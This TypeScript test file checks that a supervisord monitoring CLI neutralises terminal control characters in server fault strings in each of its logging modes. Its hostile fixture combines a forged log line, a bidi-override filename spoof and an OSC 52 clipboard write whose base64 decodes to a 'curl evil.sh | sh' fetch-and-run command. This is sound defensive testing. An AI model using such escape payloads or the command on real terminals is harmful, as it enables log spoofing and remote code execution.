/**
 * What a hostile server puts in its answers never reaches stderr as terminal
 * commands: a fault string holding a carriage return, an erase-line
 * sequence, a forged "works again" line, an OSC 52 clipboard write, a C1 CSI
 * (U+009B) and a right-to-left override, logged by every CLI mode that logs
 * run errors (`--format prometheus`, `--format dogstatsd`, `--serve`,
 * `--dogstatsd` with `--interval`). The line keeps its content, with each
 * such character shown as `?`.
 */

import assert from 'node:assert/strict';
import { createSocket } from 'node:dgram';
import { request } from 'node:http';
import { Writable } from 'node:stream';
import { after, before, describe, it } from 'node:test';

import { main } from '../../lib/cli/main.js';
import type { CliIo } from '../../lib/cli/main.js';
import { errorLog, oneLine } from '../../lib/cli/report.js';
import { makeProcess, SupervisordEmulator } from '../../lib/emulator/index.js';
import { neutralizeControls } from '../../lib/outputs/safe-text.js';
import type { ServerRun } from '../../lib/types.js';

/** Every character a terminal or log viewer may act on; written independently of the code under test. */
const UNSAFE = /[\u0000-\u001f\u007f-\u009f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]/u;

const FORGED = 'supervisord-check: prod: the check works again';
const HOSTILE = `boom\r\x1b[2K${FORGED}\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 \x9b31m red \u202Etxt.exe\u202C \u2066iso\u2069 \x7f\x00 end`;

class Capture extends Writable {
  text = '';
  constructor(readonly onWrite: (text: string) => void = () => {}) {
    super();
  }
  override _write(chunk: Buffer, _encoding: BufferEncoding, callback: () => void): void {
    this.text += chunk.toString('utf8');
    this.onWrite(this.text);
    callback();
  }
}

/** The stderr lines (without the final newline), each asserted free of unsafe characters. */
function assertSafeLines(stderr: string): string[] {
  assert.ok(stderr.endsWith('\n'), JSON.stringify(stderr));
  const lines = stderr.slice(0, -1).split('\n');
  for (const line of lines) assert.doesNotMatch(line, UNSAFE, JSON.stringify(line));
  return lines;
}

/** The fault line is there, whole, with `?` in place of each control. */
function assertFaultLine(lines: readonly string[]): void {
  const line = lines.find((l) => l.includes('An error occurred while reading process information'));
  assert.ok(line !== undefined, lines.join('\n'));
  assert.ok(line.includes(`boom??[2K${FORGED}?]52;c;Y3VybCBldmlsLnNoIHwgc2g=? ?31m red ?txt.exe? ?iso? ?? end`), line);
}

describe('neutralizeControls', () => {
  const cases: Array<[string, string, string]> = [
    ['plain ASCII and letters', 'web-1 caf\u00e9 \u65e5\u672c', 'web-1 caf\u00e9 \u65e5\u672c'],
    ['C0, tab, CR, LF', 'a\tb\rc\nd\x00e\x1f', 'a?b?c?d?e?'],
    ['ESC sequences (CSI, OSC with BEL and with ST)', '\x1b[2J\x1b]0;t\x07\x1b]52;c;x\x1b\\', '?[2J?]0;t??]52;c;x?\\'],
    ['DEL and C1, CSI U+009B and NEL U+0085 included', '\x7f\x80\x85\x9b1m\x9f', '????1m?'],
    ['bidi embeddings, overrides, isolates, marks', '\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c', '????????????'],
    ['line and paragraph separators', 'a\u2028b\u2029c', 'a?b?c'],
    ['characters next to the ranges stay', '\u00a0\u200d\u2027\u202f\u2065\u206a', '\u00a0\u200d\u2027\u202f\u2065\u206a'],
  ];
  for (const [why, input, expected] of cases) {
    it(why, () => assert.equal(neutralizeControls(input), expected));
  }

  it('oneLine: line breaks become spaces, then the rest is neutralised', () => {
    assert.equal(oneLine('a\r\nb\nc\rd\x1b'), 'a b c?d?');
  });

  it('errorLog passes names, errors and warnings through whatever say() does; main() cleans in say()', () => {
    const said: string[] = [];
    const run = (errors: string[], warnings: string[]): ServerRun =>
      ({ name: 'n\x1b', target: 't', tags: [], result: { metrics: [], serviceChecks: [], metadata: {}, warnings, errors } }) as ServerRun;
    const log = errorLog((line) => said.push(oneLine(line)));
    log([run(['e\x9b'], ['w\u202e'])]);
    log([run([], [])]);
    assert.deepEqual(said, ['n?: e?', 'n?: warning: w?', 'n?: the check works again']);
  });
});

describe('fault strings with escapes, through every CLI mode that logs run errors', () => {
  let emu: SupervisordEmulator;

  before(async () => {
    emu = await SupervisordEmulator.start({ listen: { port: 0 }, processes: [makeProcess({ name: 'web' })] });
    emu.setFault('supervisor.getAllProcessInfo', { faultCode: 1, faultString: HOSTILE });
  });
  after(async () => {
    await emu.close();
  });

  async function cli(argv: string[], io: CliIo = {}): Promise<{ code: number; stdout: string; stderr: string }> {
    const stdout = new Capture();
    const stderr = (io.stderr as Capture | undefined) ?? new Capture();
    const code = await main(argv, {}, { defaultSockets: [], ...io, stdout, stderr });
    return { code, stdout: stdout.text, stderr: stderr.text };
  }

  for (const format of ['prometheus', 'dogstatsd']) {
    it(`--format ${format}`, async () => {
      const out = await cli(['--url', emu.url, '--name', 'prod', '--format', format]);
      assert.equal(out.code, 2);
      assertFaultLine(assertSafeLines(out.stderr));
    });
  }

  it('--serve: the scrape answers, the log line is clean', async () => {
    const controller = new AbortController();
    const stderr = new Capture();
    let listening!: (port: number) => void;
    const port = new Promise<number>((resolve) => (listening = resolve));
    const done = cli(['--url', emu.url, '--name', 'prod', '--serve', '127.0.0.1:0'], {
      signal: controller.signal,
      stderr,
      onListening: (a) => listening(a.port),
    });
    try {
      const p = await Promise.race([port, done.then((o): never => assert.fail(`ended before listening: ${o.stderr}`))]);
      const status = await new Promise<number>((resolve, reject) => {
        request({ host: '127.0.0.1', port: p, path: '/metrics' }, (res) => {
          res.resume();
          res.on('end', () => resolve(res.statusCode ?? 0));
        })
          .on('error', reject)
          .end();
      });
      assert.equal(status, 200);
    } finally {
      controller.abort();
    }
    const out = await done;
    assert.equal(out.code, 0);
    assertFaultLine(assertSafeLines(out.stderr));
  });

  it('--dogstatsd --interval', async () => {
    const receiver = createSocket('udp4');
    await new Promise<void>((resolve) => receiver.bind(0, '127.0.0.1', resolve));
    const controller = new AbortController();
    // A fault gives no submission to send: stop once the error is logged.
    const stderr = new Capture((text) => {
      if (text.includes('reading process information')) controller.abort();
    });
    const timer = setTimeout(() => controller.abort(), 5000); // a failure must not hang the file
    try {
      const out = await cli(['--url', emu.url, '--name', 'prod', '--dogstatsd', `127.0.0.1:${receiver.address().port}`, '--interval', '1s'], {
        signal: controller.signal,
        stderr,
      });
      assert.equal(out.code, 0);
      assertFaultLine(assertSafeLines(out.stderr));
    } finally {
      clearTimeout(timer);
      receiver.close();
    }
  });
});
